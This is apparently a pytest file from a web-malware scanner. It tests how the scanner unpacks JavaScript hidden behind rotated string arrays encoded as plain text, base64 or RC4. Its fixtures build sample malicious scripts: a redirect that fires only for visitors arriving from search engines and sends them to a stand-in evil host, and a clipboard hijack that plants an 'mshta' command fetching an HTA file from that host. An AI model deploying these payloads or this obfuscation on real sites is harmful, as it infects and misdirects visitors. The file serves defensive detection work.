"""Lists of strings that an obfuscator turned: plain, in base64, by RC4."""

from __future__ import annotations

import json
from base64 import b64encode

import pytest
from hypothesis import given
from hypothesis import strategies as st

from cyberscan.model.verdict import Outcome
from cyberscan.parse.scripts.rotated import is_rotated, undone
from cyberscan.parse.scripts.script import read
from cyberscan.parse.scripts.tokens import tokens
from tests.checks.content.scripting import EVIL, in_file, on_page

ALPHABET = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789+/="
KEY = "Uha8"
BODIES = {
    "plain": "var v=L[a];return v;",
    "base64": f"var k='{ALPHABET}';return undo(L[a]);",
    "rc4": f"var k='{ALPHABET}';for(;;)o+=String.fromCharCode(s.charCodeAt(y)^x[0]);return o;",
}


def rc4(key: str, said: str) -> str:
    """As its specification's pseudo-code has it (RFC 6229 gives its vectors)."""
    box, m = list(range(256)), 0
    for n in range(256):
        m = (m + box[n] + ord(key[n % len(key)])) & 255
        box[n], box[m] = box[m], box[n]
    n, m, made = 0, 0, ""
    for letter in said:
        n = (n + 1) & 255
        m = (m + box[n]) & 255
        box[n], box[m] = box[m], box[n]
        made += chr(ord(letter) ^ box[(box[n] + box[m]) & 255])
    return made


def encoded(said: str, how: str) -> str:
    if how == "plain":
        return said
    said = rc4(KEY, said) if how == "rc4" else said
    return b64encode(said.encode()).decode().rstrip("=").swapcase()


def obfuscated(code: str, items: list[str], how: str, turns: int = 3, offset: int = 0x1F0) -> str:
    """Write a script as the obfuscator does; ``code`` asks for item *n* by ``«n»``."""
    whole = ["12six", "7Seven", *items, "plain"]
    asked = f",'{KEY}'" if how == "rc4" else ""
    for n in range(len(items)):
        code = code.replace(f"«{n}»", f"_0x11aa(0x{n + 2 + offset:x}{asked})")
    turned = [*whole[-turns % len(whole) :], *whole[: -turns % len(whole)]]
    listed = ",".join(json.dumps(encoded(item, how)) for item in turned)
    first, second = (f"parseInt(_0xd(0x{offset + n:x}{asked}))" for n in (0, 1))
    names = ",".join(f"_0xabc{n:02x}" for n in range(12))
    return (
        f"var {names};function _0xdec(a,b){{a=a-0x{offset:x};var L=_0xlist();{BODIES[how]}}}"
        "(function(p,q){var _0xd=_0xdec,r=p();while(!![]){try{"
        f"var s={first}/0x1*({second}/0x2)+-0x1;if(s===q)break;else r['push'](r['shift']());"
        "}catch(e){r['push'](r['shift']());}}}(_0xlist,0x29));"
        f"(function(){{var _0x11aa=_0xdec;{code}}})();"
        f"function _0xlist(){{var L=[{listed}];_0xlist=function(){{return L;}};"
        "return _0xlist();}"
    )


SEARCHERS = (
    "var r=document[«0»];if(!/google\\.|bing\\./[«1»](r)||document[«2»][«3»]('s')>-1)return;"
    "document[«2»]='s=1';setTimeout(function(){window[«4»][«5»](«6»+'x')},900)"
)
ASKED = ["referrer", "test", "cookie", "indexOf", "location", "replace", f"{EVIL}/a/"]
PASTES = "var c=«0»;b[«1»]('click',function(){navigator[«2»][«3»](c)})"
COPIED = [f"mshta {EVIL}/v.hta", "addEventListener", "clipboard", "writeText"]
THEME = (
    "var s=document[«0»](«1»);s[«2»]=«3»;document[«4»][«5»](s);localStorage[«6»]('gelap',1);"
    "if(matchMedia(«7»).matches)menu()"
)
VENDORS = [
    "createElement", "script", "src", "https://cdn.tokotema.example/menu.js", "head",
    "appendChild", "setItem", "(max-width:700px)",
]  # fmt: skip
LOCK = "if(location[«0»]!==«1»)window[«2»][«3»]=«4»;localStorage[«5»]('gelap',1)"
LOCKED = [
    "hostname", "www.contoh.go.test", "location", "href", "https://tokotema.example/lisensi",
    "setItem",
]  # fmt: skip


@pytest.mark.parametrize("how", BODIES)
@pytest.mark.parametrize("turns", [0, 1, 5])
def test_what_is_asked_for_is_read(how: str, turns: int) -> None:
    source = obfuscated(SEARCHERS, ASKED, how, turns)
    assert is_rotated(source)
    _, told = undone(tokens(source))
    assert set(ASKED) <= set(told)
    code = read(source, "s")
    assert code is not None
    assert {"engines", "location", "once", "referrer", "unreadable"} <= {*code.traits}
    assert "veiled" not in code.traits


@pytest.mark.parametrize("how", BODIES)
def test_intruders_are_judged_by_what_they_do(how: str) -> None:
    for judge in (on_page, in_file):
        assert judge(obfuscated(SEARCHERS, ASKED, how), "").message == "visitors"
        assert judge(obfuscated(PASTES, COPIED, how), "").message == "paste"


@pytest.mark.parametrize("how", BODIES)
def test_themes_hide_nothing_by_it(how: str) -> None:
    for source in (obfuscated(THEME, VENDORS, how), obfuscated(LOCK, LOCKED, how)):
        for verdict in (on_page(source, ""), in_file(source, "")):
            assert verdict.outcome is Outcome.PASS or verdict.message == "look"


def test_a_list_that_no_turn_makes_right_is_left() -> None:
    source = obfuscated(SEARCHERS, ASKED, "plain").replace("0x29)", "0x2a)")
    assert undone(tokens(source))[1] == []


@pytest.mark.parametrize("how", BODIES)
def test_no_source_that_ends_anywhere_makes_it_raise(how: str) -> None:
    source = obfuscated(SEARCHERS, ASKED, how)
    for cut in range(len(source)):
        found, told = undone(tokens(source[:cut]))
        assert len(found) >= len(told)


@given(st.text(), st.integers(0, 3_000), st.sampled_from([*BODIES]))
def test_no_text_makes_it_raise(said: str, cut: int, how: str) -> None:
    source = obfuscated(SEARCHERS, [said, *ASKED[1:]], how)
    found, told = undone(tokens(source[:cut] + said + source[cut:]))
    assert len(found) >= len(told)
